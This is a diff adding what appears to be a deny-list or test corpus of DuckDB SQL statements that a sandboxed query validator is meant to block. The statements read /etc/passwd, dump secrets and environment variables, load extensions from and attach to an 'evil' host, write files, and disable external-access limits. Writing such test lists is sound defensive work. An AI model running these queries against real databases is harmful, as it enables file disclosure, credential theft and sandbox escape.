@@ -1,0 +1,73 @@
+SELECT * FROM read_csv('/etc/passwd')
+SELECT * FROM read_csv_auto('/etc/passwd')
+SELECT * FROM read_parquet('s3://bucket/x.parquet')
+SELECT * FROM read_json('https://evil/x')
+SELECT * FROM read_json_auto('/x')
+SELECT * FROM read_text('/etc/passwd')
+SELECT * FROM read_blob('/etc/passwd')
+SELECT * FROM read_ndjson('/x')
+SELECT * FROM parquet_scan('/x')
+SELECT * FROM parquet_metadata('/x')
+SELECT * FROM sniff_csv('/etc/passwd')
+SELECT * FROM glob('/etc/*')
+SELECT * FROM '/etc/passwd'
+SELECT * FROM 'data.csv'
+SELECT * FROM "/etc/passwd"
+SELECT * FROM "data.parquet"
+SELECT * FROM "https://evil/x.json"
+SELECT a FROM t JOIN 'data.csv' u ON t.a = u.a
+FROM 'data.csv'
+FROM read_csv('/etc/passwd') SELECT *
+SELECT getenv('HOME')
+SELECT * FROM query('DROP TABLE t')
+SELECT * FROM query_table('t')
+SELECT nextval('s')
+SELECT current_setting('home_directory')
+SELECT getvariable('x')
+SELECT set_config('x', 'y', true)
+SELECT * FROM duckdb_settings()
+SELECT * FROM duckdb_secrets()
+SELECT * FROM duckdb_tables
+SELECT * FROM pragma_database_list()
+SELECT * FROM pragma_table_info('t')
+SELECT * FROM information_schema.tables
+SELECT * FROM sqlite_master
+SELECT * FROM pg_catalog.pg_tables
+COPY t TO '/tmp/x.csv'
+COPY (SELECT 1) TO '/tmp/x.csv'
+COPY t FROM '/etc/passwd'
+EXPORT DATABASE '/tmp/x'
+IMPORT DATABASE '/tmp/x'
+INSTALL httpfs
+LOAD httpfs
+FORCE INSTALL x FROM 'http://evil'
+ATTACH '/tmp/x.db'
+ATTACH 'host=evil' AS p (TYPE postgres)
+DETACH x
+USE x
+PRAGMA database_list
+SET enable_external_access = true
+SET VARIABLE x = 1
+RESET threads
+CALL pragma_version()
+CHECKPOINT
+CREATE SECRET (TYPE s3)
+CREATE MACRO m(a) AS a
+SUMMARIZE t
+DESCRIBE t
+SHOW TABLES
+PIVOT t ON a
+SELECT * FROM postgres_scan('host=evil', 'public', 't')
+SELECT * FROM mysql_query('x', 'SELECT 1')
+SELECT * FROM sqlite_scan('/x.db', 't')
+SELECT * FROM iceberg_scan('s3://x')
+SELECT * FROM delta_scan('s3://x')
+SELECT * FROM st_read('/x.shp')
+SELECT * FROM read_xlsx('/x.xlsx')
+SELECT * FROM range(1000000000000)
+SELECT * FROM generate_series(1, 1000000000000)
+SELECT write_log('x')
+SELECT 'abc'.read_text()
+SELECT t.a.getenv() FROM t
+SELECT $1
+SELECT $name
